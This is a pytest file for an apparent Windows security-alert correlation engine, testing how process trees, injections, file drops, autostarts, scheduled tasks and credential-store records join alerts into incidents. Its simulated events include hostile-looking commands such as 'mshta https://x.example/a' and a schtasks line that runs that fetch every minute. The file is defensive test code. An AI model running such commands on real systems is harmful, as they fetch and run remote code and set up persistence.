"""What belongs together: the process tree, its cuts, and the explicit edges across them."""

from __future__ import annotations

import pytest

import builders as b
from incident.stories import LURE, MSHTA, POWERSHELL, REGASM, Story, lumma

CMD = "C:\\Windows\\System32\\cmd.exe"
TEMP = "C:\\Users\\anna\\AppData\\Local\\Temp\\"


def two_alerts(parent: b.Process, shape: str = "sysmon", gap: float = 7200) -> Story:
    """Two children of one parent, hours apart, so that only the tree can join them."""
    story = Story()
    for pid, seconds in ((500, 10), (600, 10 + gap)):
        story.alert(b.process_start(b.process(CMD, pid, seconds, parent), shape), "X", f"Run {pid}")
    return story


@pytest.mark.parametrize("shape", ["sysmon", "security"])
def test_children_of_one_shell_are_one_incident(shape: str) -> None:
    parent = b.process(POWERSHELL, 400, 0, b.explorer())
    story = two_alerts(parent, shape)
    story.log(b.process_start(parent, shape))
    assert len(story.incident().alert_ids) == 2


@pytest.mark.parametrize(
    "image",
    [
        "C:\\Windows\\explorer.exe",
        "C:\\Windows\\System32\\services.exe",
        "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
    ],
)
@pytest.mark.parametrize("shape", ["sysmon", "security"])
def test_the_tree_is_cut_at_what_starts_everything(image: str, shape: str) -> None:
    assert len(two_alerts(b.process(image, 400, 0), shape).incidents()) == 2


def test_an_explorer_from_a_temp_folder_cuts_nothing() -> None:
    assert len(two_alerts(b.process(TEMP + "explorer.exe", 400, 0)).incidents()) == 1


@pytest.mark.parametrize("event_id", [8, 10, 25])
def test_an_injected_explorer_is_not_cut_from_then_on(event_id: int) -> None:
    shell, source = b.explorer(), b.process(TEMP + "a.exe", 300, 0, b.explorer(9000))
    story = Story()
    story.alert(b.process_start(b.process(CMD, 450, 5, shell)), "X", "Before")
    record = b.image_replaced(shell, 100) if event_id == 25 else b.injection(source, shell, 100, event_id)
    story.alert(record, "I", "Injected")
    story.alert(b.process_start(b.process(CMD, 500, 7200, shell)), "X", "After")
    story.alert(b.process_start(b.process(CMD, 600, 9400, shell)), "X", "Later")
    before, joined = sorted(story.incidents(), key=lambda i: len(i.alert_ids))
    assert [step.title for step in before.steps] == ["Before"]
    assert [step.title for step in joined.steps] == ["Injected", "After", "Later"]


def test_an_injection_joins_source_and_target() -> None:
    source, target = b.process(TEMP + "a.exe", 300, 0, b.explorer()), b.process(REGASM, 400, 0, b.explorer(9000))
    story = Story()
    story.alert(b.process_start(source), "X", "Source")
    story.alert(b.injection(source, target, 4000), "I", "Injected")
    story.alert(b.store_read(target, 9000, "C:\\x"), "C", "Read", store="chromium")
    incident = story.incident()
    assert len(incident.alert_ids) == 3
    assert "injected by a.exe (300)" in {node.link.partition("; ")[2] or node.link for node in incident.processes}


def test_an_access_that_is_no_injection_is_the_sources_doing() -> None:
    source = b.process(TEMP + "a.exe", 300, 0, b.explorer())
    chrome = b.process("C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", 400, 0, b.explorer())
    story = Story()
    story.alert(b.process_start(source), "X", "Source")
    story.alert(b.injection(source, chrome, 4000, 10), "C", "Memory read", store="chromium")
    story.alert(b.process_start(b.process(CMD, 600, 9000, chrome)), "X", "Child of the browser")
    joined = max(story.incidents(), key=lambda i: len(i.alert_ids))
    assert [step.process for step in joined.steps] == ["a.exe (300)", "a.exe (300)"]


@pytest.mark.parametrize("shape", ["sysmon", "security"])
@pytest.mark.parametrize("seconds", [-14, 14])
def test_a_typed_command_joins_the_child_it_names_in_either_order(shape: str, seconds: float) -> None:
    shell = b.explorer()
    story = Story()
    story.log(b.process_start(b.process("C:\\Windows\\System32\\notepad.exe", 480, 99 + seconds, shell), shape))
    story.log(b.process_start(b.process(MSHTA, 500, 100 + seconds, shell), shape))
    story.alert(b.run_dialog(shell, 100, LURE, shape), "X", "Typed", role="run-dialog")
    story.alert(b.store_read(b.process(MSHTA, 500, 100 + seconds, shell), 4000, "C:\\x"), "C", "Read")
    incident = story.incident()
    assert len(incident.alert_ids) == 2
    assert [node.link for node in incident.processes] == ["", "child; started by a typed or pasted command"]


@pytest.mark.parametrize(
    ("child", "user", "seconds"),
    [(MSHTA, b.BEN, 100.5), (MSHTA, b.ANNA, 120.0), ("C:\\Windows\\System32\\calc.exe", b.ANNA, 100.5)],
)
def test_a_typed_command_does_not_join_another_user_time_or_program(child: str, user: b.User, seconds: float) -> None:
    shell, other = b.explorer(), b.explorer(7000, user)
    ran = b.process(child, 500, seconds, other)
    story = Story()
    story.alert(b.run_dialog(shell, 100, LURE), "X", "Typed", role="run-dialog")
    story.alert(b.process_start(ran), "X", "Started", role="paste-child")
    story.log(b.process_start(b.process(CMD, 800, 1, shell), "security"))
    story.log(b.process_start(b.process(CMD, 804, 1, b.explorer(7000, b.BEN)), "security"))
    assert not any(hit.sequence_id == "S1" for incident in story.incidents() for hit in incident.sequences)
    if user is b.BEN:
        assert len(story.incidents()) == 2


def test_a_typed_command_and_a_sysmon_start_join_by_writer_where_no_record_ties_name_and_sid() -> None:
    shell = b.explorer()
    typed = b.run_dialog(shell, 100, LURE)
    del typed.fields["User"]  # Sysmon before version 13 has none in registry events
    story = Story()
    story.alert(typed, "X", "Typed", role="run-dialog")
    story.alert(b.process_start(b.process(MSHTA, 500, 100, shell)), "X", "Started", role="paste-child")
    assert "S1" in {hit.sequence_id for hit in story.incident().sequences}


def dropped(
    dropper: b.Process, seconds: float, path: str = TEMP + "b.exe", command_line: str = "", image: str = ""
) -> Story:
    """A program is written, and started hours of silence later by the scheduler, so that only the drop can join."""
    story = Story()
    story.alert(b.process_start(dropper), "X", "Dropper")
    story.log(b.file_drop(dropper, 100, path))
    scheduler = b.process("C:\\Windows\\System32\\svchost.exe", 900, -9000, user=b.SYSTEM)
    ran = b.process(image or path, 950, 100 + seconds, scheduler, command_line, user=b.SYSTEM)
    story.alert(b.process_start(ran), "X", "Dropped")
    return story


def test_a_dropped_program_joins_its_dropper_for_half_an_hour() -> None:
    dropper = b.process(POWERSHELL, 400, 0, b.explorer())
    incident = dropped(dropper, 1700).incident()
    assert incident.processes[-1].link == "child; dropped by powershell.exe (400)"
    assert len(dropped(dropper, 1900).incidents()) == 2
    assert len(dropped(dropper, -60).incidents()) == 2


def test_a_dropped_script_joins_through_the_host_that_runs_it() -> None:
    dropper = b.process(POWERSHELL, 400, 0, b.explorer())
    script = TEMP + "x y.vbs"
    wscript = "C:\\Windows\\System32\\wscript.exe"
    assert len(dropped(dropper, 60, script, f'wscript "{script}" /b', wscript).incidents()) == 1
    assert (
        len(dropped(dropper, 60, script, f'notepad "{script}"', "C:\\Windows\\System32\\notepad.exe").incidents()) == 2
    )


def test_a_download_by_a_browser_ties_nothing() -> None:
    browser = b.process("C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", 400, 0, b.explorer())
    assert len(dropped(browser, 60).incidents()) == 2


@pytest.mark.parametrize(
    ("stored", "image", "command_line"),
    [
        (TEMP + "sync.exe", TEMP + "sync.exe", ""),
        ("mshta https://x.example/a", MSHTA, f'"{MSHTA}" https://x.example/a'),
        ('powershell -c "a b"', POWERSHELL, "powershell.exe -c a b"),
    ],
)
def test_an_autostart_entry_joins_what_it_starts_within_a_day(stored: str, image: str, command_line: str) -> None:
    def story(hours: float) -> Story:
        setter = b.process(CMD, 400, 0, b.explorer())
        later = b.process(image, 900, hours * 3600, b.explorer(7777), command_line)
        told = Story()
        told.alert(
            b.registry_set(setter, 10, f"{b.ANNA.sid}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\x", stored),
            "P",
            "Autostart",
        )
        told.alert(b.process_start(later), "X", "Started again")
        return told

    assert len(story(20).incidents()) == 1
    (started,) = (node for node in story(20).incident().processes if node.pid == 900)
    assert "autostart set by cmd.exe (400)" in started.link
    assert len(story(25).incidents()) == 2


def test_a_scheduled_task_joins_what_it_starts() -> None:
    setter = b.process(
        "C:\\Windows\\System32\\schtasks.exe",
        400,
        0,
        b.process(CMD, 300, 0, b.explorer()),
        'schtasks /create /tn upd /tr "mshta https://x.example/a" /sc minute',
    )
    task = b.event(
        b.SECURITY,
        4698,
        7000,
        {
            "SubjectUserSid": b.BEN.sid,
            "TaskName": "\\other",
            "TaskContent": "<Task><Exec><Command>mshta.exe</Command>"
            "<Arguments>https://x.example/b</Arguments></Exec></Task>",
        },
    )
    scheduler = b.process("C:\\Windows\\System32\\svchost.exe", 900, -9000, user=b.SYSTEM)
    story = Story()
    story.alert(b.process_start(setter), "P", "Task by command")
    story.alert(task, "P", "Task by record")
    for pid, letter, seconds in ((910, "a", 5000), (920, "b", 12000)):
        ran = b.process(MSHTA, pid, seconds, scheduler, f"mshta.EXE https://x.example/{letter}", user=b.SYSTEM)
        story.alert(b.process_start(ran), "X", f"Ran {letter}")
    assert sorted([step.title for step in i.steps] for i in story.incidents()) == [
        ["Task by command", "Ran a"],
        ["Task by record", "Ran b"],
    ]


def test_a_task_that_no_process_is_named_for_brings_what_it_starts_at_half_weight() -> None:
    """4698 names a user and a session only; hours later the scheduler starts what it says."""
    def story(user: b.User) -> Story:
        power = b.process(POWERSHELL, 400, 0, b.explorer())
        told = Story()
        told.alert(b.process_start(power, "security"), "X", "PowerShell")
        told.alert(b.event(b.SECURITY, 4698, 600, {
            "SubjectUserSid": user.sid, "SubjectLogonId": hex(user.logon), "TaskName": "\\upd",
            "TaskContent": f"<Task><Exec><Command>{TEMP}upd.exe</Command></Exec></Task>"}), "P", "Task")
        scheduler = b.process("C:\\Windows\\System32\\svchost.exe", 900, -9000, user=b.SYSTEM)
        ran = b.process(TEMP + "upd.exe", 910, 40_000, scheduler, user=b.SYSTEM)
        told.log(b.process_start(ran))
        told.read(ran, 40_010, "C:\\x", "chromium")
        return told

    incident = story(b.ANNA).incident()
    assert {c.evidence_class: c.points for c in incident.classes} == {"X": 7.5, "C": 25, "P": 5}
    assert len(story(b.BEN).incidents()) == 2


FILETIME = int((b.at(-60).timestamp() + 11_644_473_600) * 10**7)


@pytest.mark.parametrize("written", [b.at(-60).isoformat(), hex(FILETIME), str(FILETIME)])
def test_records_of_the_vault_and_of_dpapi_name_a_process_by_pid_and_creation(written: str) -> None:
    ran = b.process(TEMP + "a.exe", 5120, -60, b.explorer())
    heir = b.process("C:\\Windows\\System32\\notepad.exe", 5120, -1, b.explorer(9000, b.BEN))
    vault = b.event(b.SECURITY, 5382, 0, {"ClientProcessId": "5120", "ProcessCreationTime": written})
    dpapi = b.event("Microsoft-Windows-Crypto-DPAPI/Debug", 16385, 1, {
        "CallerProcessID": "5120", "CallerProcessCreationTime": written})
    story = Story()
    story.log(b.process_start(ran), b.process_start(heir))
    story.alert(vault, "C", "Vault", store="vault")
    story.alert(dpapi, "C", "Key", store="chromium")
    incident = story.incident()
    assert [step.process for step in incident.steps] == ["a.exe (5120)"] * 2
    other = b.event(b.SECURITY, 5382, 2, {"ClientProcessId": "5120", "ProcessCreationTime": b.at(-500).isoformat()})
    story.alert(other, "C", "Vault of another", store="vault")
    assert sorted(len(i.alert_ids) for i in story.incidents()) == [1, 2], "a process of that pid, but not that one"


def test_two_users_on_one_host_are_two_incidents() -> None:
    story = lumma().extend(lumma(user=b.BEN, pid=7000, later=2))
    found = story.incidents()
    assert [i.level for i in found] == ["critical", "critical"]
    assert sorted(i.users for i in found) == [(b.ANNA.name,), (b.BEN.name,)]
    assert {a for i in found for a in i.alert_ids} == {a.alert_id for a in story.alerts}


def test_alerts_without_a_class_are_listed_but_make_and_score_nothing() -> None:
    parent = b.process(CMD, 400, 0, b.explorer())
    story = Story()
    story.alert(b.process_start(parent), "", "Foreign rule", "critical")
    assert story.incidents() == ()
    story.alert(b.process_start(b.process(MSHTA, 500, 5, parent)), "X", "Ours", "low", fidelity=0.4)
    incident = story.incident()
    assert len(incident.alert_ids) == 2
    assert (incident.score, incident.level) == (6, "informational")
    assert [step.title for step in incident.steps] == ["Ours"]
    assert [len(node.alert_ids) for node in incident.processes] == [0, 1, 1]
